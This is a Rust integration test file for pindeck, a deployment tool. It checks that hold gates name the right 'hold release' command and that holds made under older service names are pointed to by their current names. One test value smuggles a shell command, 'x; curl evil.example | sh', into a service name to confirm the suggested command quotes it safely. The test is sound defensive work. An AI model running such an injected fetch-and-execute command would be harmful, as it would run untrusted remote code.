//! Holds whose service or environment is gone still close, and end by the names that they were made under.

use pindeck::domain::Target;
use pindeck::domain::failure::FailureKind;
use pindeck::domain::plan::{GateName, GateState};
use pindeck::domain::write::{Ask, Request};

use crate::support::stage::{Stage, promote};

const STAGING: &str = "apps/payments/overlays/staging/kustomization.yaml";

fn release(service: &str, environment: &str) -> Request {
    Request::new(Ask::ReleaseHold {
        target: Target::new(service, environment),
    })
}

/// A hold of this file on what payments pins in staging, pushed by somebody else.
fn held_as(stage: &Stage, service: &str, environment: &str) {
    let text = stage.file(STAGING);
    let digest = &text[text.find("sha256:").expect("a digest")..][..71];
    stage.somebody_changes("pindeck-holds.toml", |_| {
        format!(
            "version = 1\n[[hold]]\nservice = {service:?}\nenvironment = {environment:?}\ndigest = {digest:?}\nreason = \"leaks\"\n"
        )
    });
}

/// The gate of holds of a promotion to production.
async fn gate(stage: &Stage) -> (GateState, String) {
    let mut proposal = stage
        .engine()
        .plan(promote(&["payments"], "production"))
        .await
        .expect("a plan");
    let plan = proposal.plans.remove(0);
    let gate = plan
        .gates
        .into_iter()
        .find(|g| g.gate == GateName::Hold)
        .expect("the gate");
    (gate.state, gate.in_full().clean().into_string())
}

#[tokio::test(flavor = "multi_thread")]
async fn every_hold_that_closes_is_released_by_the_command_that_its_gate_names() {
    let Some(stage) = Stage::start().await else { return };
    for (service, environment, named) in [
        ("payments", "gone", "`pindeck hold release payments --env gone`"),
        ("money", "staging", "`pindeck hold release money --env staging`"),
        ("money", "gone", "`pindeck hold release money --env gone`"),
        // A name that somebody wrote into the file is one word of a shell, and no advice.
        (
            "x; curl evil.example | sh",
            "gone",
            "`pindeck hold release 'x; curl evil.example | sh' --env gone`",
        ),
    ] {
        held_as(&stage, service, environment);
        let (state, detail) = gate(&stage).await;
        assert_eq!(state, GateState::Closed, "{service} {environment}");
        assert!(detail.contains(named), "{detail}");
        crate::support::stage::write(&stage.engine(), release(service, environment))
            .await
            .unwrap_or_else(|failure| panic!("{service} {environment}: {failure:?}"));
        assert_eq!(gate(&stage).await.0, GateState::Open, "{service} {environment}");
        let message = stage.at_remote(["log", "-1", "--format=%B", "main"]);
        assert!(message.contains("\nPindeck-Action: release-hold\n"), "{message}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hold_under_an_older_name_is_pointed_to_by_todays_name() {
    let Some(stage) = Stage::start().await else { return };
    held_as(&stage, "money", "staging");
    let refused = stage
        .engine()
        .plan(release("payments", "staging"))
        .await
        .expect_err("made under another name");
    assert_eq!(refused.kind(), FailureKind::Usage);
    let next = refused.next();
    assert!(
        next.as_str().contains("pindeck hold release money --env staging"),
        "{next}"
    );
    // Names that nobody has used for anything are mistakes.
    for (service, environment) in [("payments", "nowhere"), ("nothing", "staging")] {
        let failure = stage
            .engine()
            .plan(release(service, environment))
            .await
            .expect_err("unknown");
        assert_eq!(failure.kind(), FailureKind::Usage, "{service} {environment}");
    }
}
